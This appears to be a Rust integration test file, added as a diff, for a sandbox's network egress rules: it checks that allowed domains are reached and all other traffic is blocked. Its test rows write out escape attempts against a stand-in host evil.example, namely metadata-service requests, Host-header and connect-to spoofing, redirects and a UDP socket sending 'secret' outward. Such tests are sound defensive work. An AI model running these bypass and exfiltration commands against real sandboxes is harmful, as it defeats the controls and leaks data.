@@ -1,0 +1,253 @@
+//! Connections of commands inside, on a network of the test's own: a machine behind this one serves, and writes down every
+//! packet that reaches it.
+
+use serde_json::{Value, json};
+
+use crate::support::{Finished, Scene, each_user};
+
+/// One command in the world.
+struct Row {
+    /// Words for `palisade run`; without them the command runs unconfined.
+    words: Option<Vec<String>>,
+    sh: String,
+}
+
+/// What came of a row.
+struct Done {
+    code: i64,
+    out: String,
+    error: String,
+    /// What the machine behind saw.
+    seen: Vec<String>,
+}
+
+impl Done {
+    fn text(&self) -> String {
+        let Self { code, out, error, seen } = self;
+        format!("exit code {code}\nout: {out}\nerror: {error}\nseen: {seen:?}")
+    }
+}
+
+fn inside(sh: impl Into<String>) -> Row {
+    Row { words: Some(Vec::new()), sh: sh.into() }
+}
+
+fn inside_with(words: &[&str], sh: impl Into<String>) -> Row {
+    Row { words: Some(words.iter().map(|word| (*word).to_owned()).collect()), sh: sh.into() }
+}
+
+fn outside(sh: impl Into<String>) -> Row {
+    Row { words: None, sh: sh.into() }
+}
+
+/// Runs the rows one after the other in a world of their own.
+fn world(scene: &Scene, settings: &Value, rows: &[Row]) -> Vec<Done> {
+    scene.settings(settings);
+    scene.write("world/files/hello.txt", "hello\n");
+    let program = scene.write("world/world.py", include_str!("egress/world.py"));
+    let listed: Vec<Value> = rows.iter().map(|row| json!({"words": row.words, "sh": row.sh})).collect();
+    let config = scene.write(
+        "world/config.json",
+        json!({
+            "directory": scene.text("world"),
+            "project": scene.text("project"),
+            "program": scene.program(),
+            "rows": listed,
+        })
+        .to_string(),
+    );
+    let words = ["unshare", "--user", "--map-root-user", "--net", "--mount", "--propagation", "private", "python3"];
+    let mut argv: Vec<std::ffi::OsString> = words.map(Into::into).to_vec();
+    argv.extend([program.into(), config.into()]);
+    let finished: Finished = scene.call(argv).run();
+    let done: Vec<Value> =
+        serde_json::from_str(&finished.stdout).unwrap_or_else(|error| panic!("{error}\n{finished:#?}"));
+    assert_eq!(done.len(), rows.len());
+    let text = |value: &Value| value.as_str().unwrap().to_owned();
+    done.iter()
+        .map(|done| Done {
+            code: done["code"].as_i64().unwrap(),
+            out: text(&done["out"]),
+            error: text(&done["error"]),
+            seen: done["seen"].as_array().unwrap().iter().map(text).collect(),
+        })
+        .collect()
+}
+
+/// Commands without the variables that name the proxy.
+const BARE: &str = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY;";
+
+fn curl(scene: &Scene) -> String {
+    format!("curl --silent --show-error --max-time 20 --cacert {}", scene.text("world/cert.pem"))
+}
+
+fn settings() -> Value {
+    json!({"sandbox": {"network": {
+        "allowedDomains": ["good.example", "*.good.example", "good.example:8443", "inner.example", "near.example",
+            "private.example", "meta.example"],
+        "deniedDomains": ["www.good.example"],
+    }}})
+}
+
+/// What the rules allow works for clients that know the proxy and for those that do not.
+#[test]
+fn allowed_hosts_are_reached() {
+    each_user(|scene| {
+        let (curl, cert) = (curl(scene), scene.text("world/cert.pem"));
+        let python = "import sys,urllib.request as r; print(r.urlopen(sys.argv[1],timeout=20).read().decode())";
+        let node = "fetch(process.argv[1]).then(a=>a.text()).then(console.log)";
+        let rows = [
+            inside(format!("{curl} https://good.example/hello.txt")),
+            inside(format!("{curl} http://good.example/hello.txt")),
+            inside(format!("{curl} https://good.example:8443/hello.txt")),
+            inside(format!("{BARE} {curl} https://good.example/hello.txt")),
+            inside(format!("{BARE} {curl} https://good.example:8443/hello.txt")),
+            inside(format!("{BARE} {curl} http://good.example/hello.txt")),
+            inside(format!("{curl} --proxy socks5h://127.0.0.1:3128 http://good.example/hello.txt")),
+            inside(format!("SSL_CERT_FILE={cert} python3 -c '{python}' https://good.example/hello.txt")),
+            inside(format!("{BARE} SSL_CERT_FILE={cert} python3 -c '{python}' https://good.example/hello.txt")),
+            inside(format!("wget --quiet --ca-certificate={cert} --output-document=- https://good.example/hello.txt")),
+            inside(format!("NODE_EXTRA_CA_CERTS={cert} node -e '{node}' https://good.example/hello.txt")),
+            inside_with(
+                &["--profile", "closed"],
+                format!("{curl} -k --cacert /dev/null http://good.example/hello.txt"),
+            ),
+        ];
+        for (row, done) in rows.iter().zip(world(scene, &settings(), &rows)) {
+            if row.sh.contains("node -e") && done.error.contains("node: not found") {
+                println!("SKIPPED: there is no node");
+                continue;
+            }
+            assert_eq!((done.code, done.out.trim()), (0, "hello"), "{}\n{}", row.sh, done.text());
+            assert!(done.seen.iter().all(|line| !line.contains("93.184.216.35")), "{}", done.text());
+        }
+        let records = scene.journal();
+        let ended =
+            records.iter().rfind(|record| record["connection"]["stage"] == "ended").expect("an ended connection");
+        let connection = &ended["connection"];
+        assert_eq!(connection["verdict"], "allow", "{ended}");
+        assert_eq!(connection["target"], "good.example:80", "{ended}");
+        assert_eq!(connection["address"], "93.184.216.34:80", "{ended}");
+        assert_eq!(connection["rule"]["text"], "allowedDomains: good.example", "{ended}");
+        assert_eq!(connection["rule"]["line"], 5, "{ended}");
+        assert!(connection["received"].as_u64() > Some(6), "{ended}");
+    });
+}
+
+/// What they do not allow fails with words, and not one packet leaves. Each way works without the boundary.
+#[test]
+fn everything_else_is_out_of_reach() {
+    each_user(|scene| {
+        let curl = curl(scene);
+        let send = "python3 -c 'import socket,sys; s=socket.socket(type=socket.SOCK_DGRAM); s.sendto(b\"secret\",(sys.argv[1],int(sys.argv[2])))'";
+        // What is tried, whether it works outside, and what its program or Palisade says.
+        let tries: Vec<(String, &str, &str)> = vec![
+            (
+                format!("{curl} --fail https://evil.example/"),
+                "tcp 93.184.216.35:443",
+                "evil.example:443: no rule allows it",
+            ),
+            (
+                format!("{BARE} {curl} --fail https://evil.example/"),
+                "tcp 93.184.216.35:443",
+                "evil.example:443: no rule allows it",
+            ),
+            (
+                format!("{curl} --fail http://evil.example/"),
+                "tcp 93.184.216.35:80",
+                "evil.example:80: no rule allows it",
+            ),
+            (
+                format!("{curl} --fail https://www.good.example/"),
+                "tcp 93.184.216.34:443",
+                "deniedDomains: www.good.example",
+            ),
+            (
+                format!("{curl} --fail http://93.184.216.35/"),
+                "tcp 93.184.216.35:80",
+                "93.184.216.35:80: no rule allows it",
+            ),
+            (
+                format!("{BARE} {curl} --fail http://93.184.216.35/"),
+                "tcp 93.184.216.35:80",
+                "connect 93.184.216.35:80 by",
+            ),
+            (
+                format!("{BARE} {curl} --fail http://93.184.216.35:8080/"),
+                "tcp 93.184.216.35:8080",
+                "connect 93.184.216.35:8080 by",
+            ),
+            (
+                format!("{curl} --fail http://good.example:8080/"),
+                "tcp 93.184.216.34:8080",
+                "good.example:8080: no rule allows it",
+            ),
+            // Names that lead inside, by a list that allows them.
+            (format!("{curl} --fail http://near.example:9090/"), "request", "near.example:9090: no rule allows it"),
+            (
+                format!("{curl} --fail http://private.example/"),
+                "tcp 10.9.9.9:80",
+                "it leads to 10.9.9.9, which is a private address",
+            ),
+            (format!("{curl} --fail http://meta.example/"), "tcp 169.254.169.254:80", "a metadata service's address"),
+            (
+                format!("{curl} --fail http://169.254.169.254/"),
+                "tcp 169.254.169.254:80",
+                "a metadata service's address",
+            ),
+            // A server that is allowed leads elsewhere.
+            (
+                format!("{curl} --fail --location http://good.example/to/evil.example/x"),
+                "tcp 93.184.216.35:80",
+                "evil.example:80: no rule allows it",
+            ),
+            // One host is asked for and another is meant.
+            (
+                format!(
+                    "{curl} --fail --insecure --connect-to evil.example:443:good.example:443 https://evil.example/"
+                ),
+                "request 93.184.216.34 evil.example",
+                "evil.example",
+            ),
+            (
+                format!("{curl} --fail --header 'Host: evil.example' http://good.example/"),
+                "request 93.184.216.34 evil.example",
+                "",
+            ),
+            // Datagrams, and names that carry data.
+            (format!("{send} 93.184.216.35 53"), "udp 93.184.216.35:53", "Network is unreachable"),
+            (format!("{send} 93.184.216.34 443"), "udp 93.184.216.34:443", "Network is unreachable"),
+        ];
+        let controls: Vec<Row> = tries.iter().map(|(sh, ..)| outside(sh)).collect();
+        for ((sh, seen, _), done) in tries.iter().zip(world(scene, &settings(), &controls)) {
+            assert!(done.seen.iter().any(|line| line.starts_with(seen)), "the control: {sh}\n{}", done.text());
+        }
+        let rows: Vec<Row> = tries.iter().map(|(sh, ..)| inside(sh)).collect();
+        for ((sh, seen, said), done) in tries.iter().zip(world(scene, &settings(), &rows)) {
+            assert_ne!(done.code, 0, "{sh}\n{}", done.text());
+            assert!(done.error.contains(said), "{sh}\n{}", done.text());
+            assert!(!done.seen.iter().any(|line| line.starts_with(seen)), "{sh}\n{}", done.text());
+        }
+    });
+}
+
+/// A person who types a command says what it may reach; a rule that denies it wins.
+#[test]
+fn a_person_allows_a_host_for_one_command() {
+    each_user(|scene| {
+        let curl = curl(scene);
+        let rows = [
+            inside_with(&["--allow-domain", "evil.example"], format!("{curl} https://evil.example/hello.txt")),
+            inside(format!("{curl} https://evil.example/hello.txt")),
+            inside_with(&["--allow-domain", "www.good.example"], format!("{curl} https://www.good.example/hello.txt")),
+            inside_with(&["--network", "none"], format!("{curl} https://good.example/hello.txt")),
+            inside_with(&["--allow-domain", "*.com"], "true"),
+        ];
+        let done = world(scene, &settings(), &rows);
+        let codes: Vec<i64> = done.iter().map(|done| done.code).collect();
+        let texts: String = done.iter().map(Done::text).collect();
+        assert_eq!(codes, [0, 56, 56, 7, 2], "{texts}");
+        assert_eq!(done[0].out, "hello\n");
+        assert!(done[4].error.contains("allows names that anybody can have"), "{texts}");
+    });
+}
